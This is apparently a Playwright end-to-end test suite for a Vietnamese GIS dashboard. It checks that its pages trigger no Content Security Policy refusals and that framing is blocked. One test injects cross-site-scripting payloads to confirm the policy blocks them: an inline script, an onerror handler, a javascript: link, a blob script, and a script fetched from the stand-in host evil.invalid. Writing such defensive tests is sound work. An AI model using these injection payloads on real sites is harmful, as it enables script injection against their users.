"""No page needs more than the policies of the door allow, and a script that was smuggled in does not run."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from gis.screens import SCREENS
from tests import serving
from tests.e2e import test_map_page as map_page
from tests.e2e.test_ranking import ranking
from tests.e2e.watching_policy import refusals
from tests.serving import Server, rested

SHEETS = ["?sheet=ward-00097", "du-an?sheet=project-DA-00001", "?lang=en", "?measure=overdue"]
PARTS = [f"tiep-dan-doi-thoai?part={part}" for part in ("commitments", "receptions", "outreach", "tasks")]


@pytest.fixture(scope="module")
def context(browser: Browser) -> Iterator[BrowserContext]:
    made = browser.new_context(viewport={"width": 1440, "height": 1000}, locale="vi-VN", accept_downloads=True)
    yield made
    made.close()


@pytest.fixture(scope="module")
def refused(context: BrowserContext) -> list[str]:
    return refusals(context)


@pytest.fixture
def reader(context: BrowserContext, refused: list[str]) -> Iterator[Page]:
    """A tab of its own, of which alone is told what is refused."""
    page = context.new_page()
    refused.clear()
    yield page
    page.close()


def opened(page: Page, server: Server, path: str) -> None:
    serving.opened(page, f"{server.url}/{path}")


@pytest.mark.parametrize("path", [*(screen.path for screen in SCREENS), *SHEETS, *PARTS])
def test_no_page_asks_for_what_is_refused(server: Server, reader: Page, refused: list[str], path: str) -> None:
    opened(reader, server, path)
    for fold in reader.locator("details > summary:visible").all():
        fold.click()
    rested(reader)
    assert refused == []


def test_the_map_is_drawn_and_worked_under_its_own_policy(server: Server, reader: Page, refused: list[str]) -> None:
    map_page.opened(reader, server)
    map_page.the_map(reader).locator(".leaflet-control-zoom-in").click()
    map_page.choose_ward(reader, "Phường Hồng Hà")
    expect(reader).to_have_url(re.compile("ward="))
    map_page.wards(reader).first.press("Enter")
    rested(reader)
    assert refused == []


def test_tables_are_sorted_papers_looked_at_and_files_taken(server: Server, reader: Page, refused: list[str]) -> None:
    map_page.opened(reader, server)
    ranking(reader).locator("thead button").nth(2).click()
    with reader.expect_download() as taken:
        reader.get_by_role("button", name="CSV").first.click()
    assert taken.value.path().stat().st_size > 0
    reader.get_by_role("button", name="Xuất báo cáo").click()
    asked = reader.get_by_role("dialog", name="Xuất báo cáo")
    asked.get_by_role("button", name="Xem trước").click()
    expect(asked.locator("img")).to_be_visible()
    assert refused == []


def test_a_script_that_was_smuggled_in_does_not_run(server: Server, reader: Page, refused: list[str]) -> None:
    opened(reader, server, "")
    reader.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.smuggled = 'inline'";
            document.body.append(script);
            const box = document.createElement("div");
            box.innerHTML = `<img src=x onerror="smuggled = 'handler'"><a href="javascript:smuggled = 'link'">x</a>`;
            document.body.append(box);
            box.querySelector("a").click();
            const far = document.createElement("script");
            far.src = "https://evil.invalid/x.js";
            document.body.append(far);
            const memory = document.createElement("script");
            memory.src = URL.createObjectURL(new Blob(["window.smuggled = 'blob'"], {type: "text/javascript"}));
            document.body.append(memory);
        }"""
    )
    for what in ("inline", "evil.invalid", "blob"):
        until_heard(reader, refused, what)
    assert reader.evaluate("window.smuggled") is None


def until_heard(page: Page, refused: list[str], what: str) -> None:
    """Wait until the browser told of a refusal."""
    while not any(what in one for one in refused):
        page.wait_for_event("console")


def test_no_other_page_may_put_it_into_a_frame(server: Server, reader: Page, refused: list[str]) -> None:
    reader.goto(f"{server.url}/healthz")
    reader.evaluate(
        "(address) => document.body.append(Object.assign(document.createElement('iframe'), {src: address}))", server.url
    )
    until_heard(reader, refused, "frame-ancestors")
    expect(reader.frame_locator("iframe").locator("[data-testid=stApp]")).to_have_count(0)
